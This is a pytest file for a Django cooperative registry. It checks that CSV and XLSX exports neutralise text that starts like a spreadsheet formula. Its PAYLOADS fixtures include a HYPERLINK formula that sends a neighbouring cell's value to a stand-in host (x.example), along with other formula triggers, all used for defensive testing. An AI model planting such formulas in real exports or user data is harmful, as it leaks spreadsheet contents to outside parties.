"""The registry's export with text that starts like a formula (issue 12, defect 1): the .xlsx
holds it as text, the CSV marks it with a quote (in Python and in PostgreSQL's COPY, byte for
byte), and an export imported again changes nothing: the import drops exactly the one quote
our CSV writer added."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.db import connection
from django.urls import reverse
from django.utils import translation

from hoptac.registry import excel, importing
from hoptac.registry.models import Cooperative
from hoptac.registry.tests.factories import CooperativeFactory
from hoptac.registry.tests.files import builders as b

pytestmark = pytest.mark.django_db

URL = "registry:cooperative_export"
PAYLOADS = (
    '=HYPERLINK("http://x.example/?s="&B2,"Xem")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "'=already quoted",
    "'plain quote",
)
TEXT_FIELDS = (
    "name",
    "short_name",
    "street",
    "representative_name",
    "representative_title",
    "registering_authority",
    "business_lines",
)


@pytest.fixture
def hostile(db):
    """An HTX per payload, the payload in every text field; and an ordinary one."""
    made = [CooperativeFactory(**dict.fromkeys(TEXT_FIELDS, payload)) for payload in PAYLOADS]
    made.append(CooperativeFactory(name="HTX Chè Mỹ Phương", representative_phone="0912345678"))
    return made


def _download(client, fmt: str) -> bytes:
    response = client.get(reverse(URL), {"format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_xlsx_holds_the_text_as_text(client, admin, hostile):
    client.force_login(admin)
    sheet = openpyxl.load_workbook(io.BytesIO(_download(client, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    names = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert set(PAYLOADS) <= set(names)


def test_the_csv_marks_text_that_starts_like_a_formula(client, admin, hostile):
    client.force_login(admin)
    text = _download(client, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    name = [c.key for c in excel.EXPORT_COLUMNS].index("name")
    street = [c.key for c in excel.EXPORT_COLUMNS].index("street")
    written = {row[name]: row[street] for row in rows[1:]}
    assert written["'" + PAYLOADS[0]] == "'" + PAYLOADS[0]
    assert written["'+1+1"] == "'+1+1"
    assert written["'-2+3"] == "'-2+3"
    assert written["'@SUM(A1)"] == "'@SUM(A1)"
    assert written["''=already quoted"] == "''=already quoted"  # one more quote, dropped on read
    assert written["'plain quote"] == "'plain quote"  # no trigger after the quote: as it is
    assert "HTX Chè Mỹ Phương" in written
    starts = [cell[:1] for row in rows for cell in row]
    assert not set(starts) & set("=+-@\t\r")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_round_trip_of_such_text_changes_nothing(client, admin, hostile, tmp_path, fmt):
    client.force_login(admin)
    path = tmp_path / f"export.{fmt}"
    path.write_bytes(_download(client, fmt))
    plans: list[importing.RowPlan] = []
    summary = importing.run_import(path, user=admin, on_plan=plans.append)
    changes = [(p.name, [(c.label, c.old, c.new) for c in p.changes]) for p in plans]
    assert (summary.created, summary.updated, summary.error_rows) == (0, 0, 0), (changes, summary)
    assert summary.unchanged == len(hostile)


def test_a_csv_import_drops_only_the_quote_our_export_adds(admin, luong_bang, tmp_path):
    written = ["'=HTX A", "''=HTX B", "'HTX C", "HTX 'D", "'+HTX E", "'"]
    meant = ["=HTX A", "'=HTX B", "'HTX C", "HTX 'D", "+HTX E", "'"]
    rows = [[name, b.LUONG_BANG, "Nông nghiệp", "Trồng trọt"] for name in written]
    path = tmp_path / "ds.csv"
    path.write_bytes(b.csv_bytes([["Tên HTX", "Địa chỉ", "Lĩnh vực", "Ngành"], *rows]))
    summary = importing.run_import(path, user=admin)
    assert (summary.created, summary.error_rows) == (len(rows), 0), summary.errors
    assert sorted(Cooperative.objects.values_list("name", flat=True)) == sorted(meant)


def test_an_xlsx_import_keeps_a_leading_quote(admin, luong_bang, tmp_path):
    """An .xlsx cell is text already: our export adds no quote to it, and the import drops
    none."""
    path = tmp_path / "ds.xlsx"
    header = ["Tên HTX", "Địa chỉ", "Lĩnh vực", "Ngành"]
    path.write_bytes(b.xlsx([header, ["'=HTX A", b.LUONG_BANG, "Nông nghiệp", "Trồng trọt"]]))
    summary = importing.run_import(path, user=admin)
    assert summary.created == 1, summary.errors
    assert Cooperative.objects.get().name == "'=HTX A"


@pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="the COPY export exists on PostgreSQL only; SQLite writes the CSV in Python",
)
@pytest.mark.parametrize("language", ["vi", "en"])
def test_the_copy_csv_marks_the_same_cells_as_the_python_csv(admin, hostile, language):
    """Every text column through COPY, with every payload: the same bytes as csv_lines."""
    CooperativeFactory(
        name="\t=tab", street="\r=cr", short_name="-", phone="+84 912 345 678",
        business_lines="'''-three quotes", latitude=21.5, longitude=105.8,
    )  # fmt: skip
    cooperatives = Cooperative.objects.order_by("name", "pk")
    with translation.override(language):
        header = [f"={h}" for h in excel.headers()]  # the header is marked too
        python = "".join(excel.csv_lines(excel.export_rows(cooperatives), header=header))
        copied = b"".join(excel.csv_copy_chunks(cooperatives, header=header))
    assert copied == python.encode()
    assert b"'=HYPERLINK" in copied
    assert b"'\t=tab" in copied
